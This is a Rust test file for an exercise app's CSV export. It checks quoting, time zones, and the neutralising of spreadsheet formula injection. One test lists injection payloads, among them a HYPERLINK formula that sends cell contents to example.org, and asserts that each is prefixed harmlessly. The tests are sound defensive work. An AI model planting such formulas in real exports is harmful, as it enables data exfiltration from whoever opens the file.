use keystone::domain::check_in::{After, Before, Sore};
use keystone::domain::csv::{COLUMNS, csv};
use keystone::domain::exercise::Exercise;
use keystone::domain::history::{DoneBout, Record};
use keystone::domain::level::Level;
use keystone::domain::timeline::Why;
use proptest::prelude::*;

use crate::{any_exercise, any_level};

fn bout(exercise: Exercise, level: Level, ended: Option<Why>) -> DoneBout {
    DoneBout {
        exercise,
        level,
        sets: 3,
        sets_done: 2,
        work_ms: 21_999,
        left: None,
        right: None,
        ended,
    }
}

fn record() -> Record {
    Record {
        id: "a1".into(),
        // 23:30 UTC on the 22nd is past midnight in Paris.
        started_ms: 1_795_390_200_000,
        utc_offset_min: 60,
        active_ms: 61_000,
        routine: Some("flare-up".into()),
        before: Before { pain: Some(0), sore: Some(Sore::Left) },
        after: After { pain: Some(10), effort: None, note: "Müde, \"gut\"".into() },
        bouts: vec![
            bout(Exercise::DeadBug, Level::Stronger, Some(Why::TooHard)),
            bout(Exercise::DeadBug, Level::Standard, Some(Why::Hurts)),
            bout(Exercise::SidePlank, Level::Gentle, None),
        ],
        ..Record::default()
    }
}

/// A reader of RFC 4180 that is as strict as it can be: a row ends with CRLF, and quotes stand only
/// around a whole cell.
fn read(file: &str) -> Vec<Vec<String>> {
    let mut rest =
        file.strip_prefix('\u{feff}').expect("it begins with the mark").chars().peekable();
    let (mut rows, mut row) = (Vec::new(), Vec::new());
    while rest.peek().is_some() {
        let mut cell = String::new();
        if rest.next_if_eq(&'"').is_some() {
            loop {
                match rest.next().expect("the quote is closed") {
                    '"' if rest.next_if_eq(&'"').is_none() => break,
                    c => cell.push(c),
                }
            }
        } else {
            while let Some(c) = rest.next_if(|c| !",\r\n".contains(*c)) {
                assert_ne!(c, '"', "a quote within a bare cell");
                cell.push(c);
            }
        }
        row.push(cell);
        match rest.next() {
            Some(',') => {}
            Some('\r') => {
                assert_eq!(rest.next(), Some('\n'));
                rows.push(std::mem::take(&mut row));
            }
            other => panic!("{other:?} after a cell"),
        }
    }
    assert!(row.is_empty(), "the last row is ended");
    rows
}

/// A text as it is to be in its cell.
fn defused(text: &str) -> String {
    let dangerous = text.chars().next().is_some_and(|c| "=+-@\0\t\r\n＝＋－＠".contains(c));
    [if dangerous { "'" } else { "" }, text].concat()
}

#[test]
fn sessions_are_this_table() {
    let own = Record {
        id: "b2".into(),
        started_ms: 60_000,
        utc_offset_min: -90,
        active_ms: 60_000,
        routine: Some("own-1".into()),
        name: Some("=Mornings".into()),
        bouts: vec![bout(Exercise::HipThrust, Level::Gentle, None)],
        ..Record::default()
    };
    let expected = [
        "\u{feff}date,time,session_id,routine,exercise,level,sets_done,sets,work_seconds,session_minutes,pain_before,pain_after,effort,sore_side,ended,note",
        "2026-11-23,00:30,a1,flare-up,dead-bug,stronger,2,3,21,2,0,10,,left,too-hard,\"Müde, \"\"gut\"\"\"",
        "2026-11-23,00:30,a1,flare-up,dead-bug,standard,2,3,21,2,0,10,,left,hurts,\"Müde, \"\"gut\"\"\"",
        "2026-11-23,00:30,a1,flare-up,side-plank,gentle,2,3,21,2,0,10,,left,,\"Müde, \"\"gut\"\"\"",
        "1969-12-31,22:31,b2,'=Mornings,hip-thrust,gentle,2,3,21,1,,,,,,",
        "",
    ];
    assert_eq!(csv(&[&record(), &own]), expected.join("\r\n"));
}

#[test]
fn without_sessions_there_are_only_the_names_of_the_columns() {
    assert_eq!(read(&csv(&[])), [COLUMNS]);
}

#[test]
fn why_it_ended_is_called_as_in_saved_data() {
    for why in [Why::TooHard, Why::Hurts] {
        let record =
            Record { bouts: vec![bout(Exercise::DeadBug, Level::Gentle, Some(why))], ..record() };
        let saved = serde_json::to_string(&why).expect("it can be saved");
        assert_eq!(read(&csv(&[&record]))[1][14], saved.trim_matches('"'));
    }
}

#[test]
fn no_cell_is_reckoned_as_a_formula() {
    for note in [
        "=1+1",
        "=HYPERLINK(\"https://example.org/?\"&A1,\"x\")",
        "+1",
        "-1",
        "@SUM(1)",
        "\0=1",
        "\t=1",
        "\r=1",
        "\r\n=1",
        "\n=1",
        "＝1",
        "=1,\"",
    ] {
        let record = Record {
            id: note.into(),
            routine: Some(note.into()),
            after: After { note: note.into(), ..After::default() },
            ..record()
        };
        let row = &read(&csv(&[&record]))[1];
        for column in [2, 3, 15] {
            assert_eq!(row[column], ["'", note].concat());
        }
    }
}

/// What people type, and what nobody should.
fn any_text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        2 => any::<char>().prop_map(String::from),
        1 => prop::sample::select(vec![
            "\"", "\"\"", ",", "\r\n", "\r", "\n", "\t", "=", "+", "-", "@", "'", ";", "\0", "é", "🙂",
            "\u{feff}", "\",\"", "\"\r\n=", "\u{2028}",
        ]).prop_map(String::from),
    ];
    prop::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

fn any_record() -> impl Strategy<Value = Record> {
    let rating = || prop::option::of(0u8..=10);
    let ended = prop::option::of(prop::sample::select(vec![Why::TooHard, Why::Hurts]));
    let bouts = prop::collection::vec(
        (any_exercise(), any_level(), ended, any::<u32>())
            .prop_map(|(e, l, ended, work_ms)| DoneBout { work_ms, ..bout(e, l, ended) }),
        1..4,
    );
    let sore = prop::option::of(prop::sample::select(Sore::ALL.to_vec()));
    let answers = (rating(), rating(), rating(), sore);
    let texts =
        (any_text(), prop::option::of(any_text()), prop::option::of(any_text()), any_text());
    let times = (0u64..4_000_000_000_000, -720i16..=840, any::<u32>());
    (bouts, answers, texts, times).prop_map(
        |(
            bouts,
            (pain, later, effort, sore),
            (id, routine, name, note),
            (started_ms, utc_offset_min, active_ms),
        )| Record {
            id,
            started_ms,
            utc_offset_min,
            active_ms,
            routine,
            name,
            before: Before { pain, sore },
            after: After { pain: later, effort, note },
            bouts,
            ..Record::default()
        },
    )
}

proptest! {
    #[test]
    fn a_table_is_read_as_it_was_written(records in prop::collection::vec(any_record(), 0..4)) {
        let table = read(&csv(&records.iter().collect::<Vec<_>>()));
        let number = |n: Option<u8>| n.map(|n| n.to_string()).unwrap_or_default();
        let mut rows = table.iter();
        prop_assert!(rows.next().is_some_and(|names| *names == COLUMNS));
        for record in &records {
            for bout in &record.bouts {
                let row = rows.next().expect("there is a row for each exercise");
                prop_assert_eq!(row.len(), COLUMNS.len());
                prop_assert_eq!(&row[2], &defused(&record.id));
                let routine = record.name.clone().or(record.routine.clone()).unwrap_or_default();
                prop_assert_eq!(&row[3], &defused(&routine));
                prop_assert_eq!(Exercise::from_slug(&row[4]), Some(bout.exercise));
                prop_assert_eq!(Level::from_slug(&row[5]), Some(bout.level));
                prop_assert_eq!(&row[6], "2");
                prop_assert_eq!(&row[7], "3");
                prop_assert_eq!(&row[8], &(bout.work_ms / 1_000).to_string());
                prop_assert_eq!(&row[9], &record.minutes().to_string());
                prop_assert_eq!(&row[10], &number(record.before.pain));
                prop_assert_eq!(&row[11], &number(record.after.pain));
                prop_assert_eq!(&row[12], &number(record.after.effort));
                prop_assert_eq!(Sore::from_slug(&row[13]), record.before.sore);
                prop_assert_eq!(row[14].is_empty(), bout.ended.is_none());
                prop_assert_eq!(&row[15], &defused(&record.after.note));
            }
        }
        prop_assert!(rows.next().is_none());
    }

    #[test]
    fn the_clock_is_the_one_on_the_wall(started_ms in 0u64..4_000_000_000_000, utc_offset_min in -720i16..=840) {
        let record = Record { started_ms, utc_offset_min, ..record() };
        let row = &read(&csv(&[&record]))[1];
        let date = keystone::domain::date::Date::from_text(&row[0]).expect("it is a day");
        let clock: Vec<i64> = row[1].split(':').map(|n| n.parse().expect("it is a number")).collect();
        prop_assert!(row[1].len() == 5 && clock[0] < 24 && clock[1] < 60);
        let minutes = date.number() * 1_440 + clock[0] * 60 + clock[1] - i64::from(utc_offset_min);
        prop_assert_eq!(minutes, i64::try_from(started_ms / 60_000).expect("it fits"));
    }
}
